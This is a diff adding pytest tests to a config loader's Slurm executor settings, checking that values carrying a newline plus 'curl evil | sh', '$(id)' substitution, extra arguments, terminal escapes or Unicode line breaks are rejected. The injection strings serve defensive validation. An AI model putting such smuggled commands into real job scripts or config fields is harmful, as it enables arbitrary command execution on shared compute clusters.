@@ -81,3 +81,44 @@ def test_what_slurm_is_asked_for(tmp_path):
     assert jobs("jobs: 1, cpus: 4, wait: 2d").memory == "8GB"
     full = "jobs: 2, partition: p, account: a, time: 90m, cpus: 2, memory: 5GB, directives: [--qos=x], wait: 1h"
     assert jobs(full) == SlurmJobs(2, 2, "5GB", 5400, folder, "p", "a", ("--qos=x",), 3600.0, where)
+
+
+INJECTED = ["\\ncurl evil | sh", "\\r\\ntouch x", "\\x85id", "\\u2028id", "\\e[2J", "\\u202eab"]
+"""What follows a plain value, as YAML escapes it."""
+
+
+@pytest.mark.parametrize("injected", INJECTED)
+@pytest.mark.parametrize(
+    "key", ["partition: p{}", "account: a{}", "directives: [--qos=x{}]", "memory: 2GB{}", "time: 4h{}"]
+)
+def test_nothing_puts_a_line_into_a_job_script(tmp_path, key, injected):
+    name, _, value = key.partition(": ")
+    quoted = f'"{value.format(injected)}"'
+    if name == "directives":
+        quoted = f'["--qos=x{injected}"]'
+    text = f"executor: {{kind: slurm, jobs: 1, {name}: {quoted}}}\n"
+    (tmp_path / "nanoset.yaml").write_text(f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}")
+    with pytest.raises(ConfigError, match=f"executor.{name}"):
+        load_config(tmp_path / "nanoset.yaml")
+
+
+@pytest.mark.parametrize(
+    "given", ["partition: 'p -w x'", "account: '$(id)'", "directives: ['qos=x']", "directives: ['']"]
+)
+def test_names_and_directives_for_slurm_are_checked(tmp_path, given):
+    text = f"executor: {{kind: slurm, jobs: 1, {given}}}\n"
+    (tmp_path / "nanoset.yaml").write_text(f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}")
+    with pytest.raises(ConfigError, match="script"):
+        load_config(tmp_path / "nanoset.yaml")
+
+
+@pytest.mark.parametrize("directive", ["--constraint=ib", "-C ib&avx", "--comment='two words'", "--gres=gpu:a100:2"])
+def test_usual_directives_are_taken(tmp_path, directive):
+    text = f"executor: {{kind: slurm, jobs: 1, partition: 'a,b', account: a/b.c-d_e, directives: [\"{directive}\"]}}\n"
+    (tmp_path / "nanoset.yaml").write_text(f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}")
+    assert load_config(tmp_path / "nanoset.yaml").executor.directives == (directive,)
+
+
+def test_the_advice_to_start_a_scheduler_is_quoted(tmp_path):
+    scheduler = DaskScheduler(file=Path("/a b/$(id)/s.json"))
+    assert scheduler.start_workers.endswith("`dask worker --scheduler-file '/a b/$(id)/s.json' --nthreads 1`")
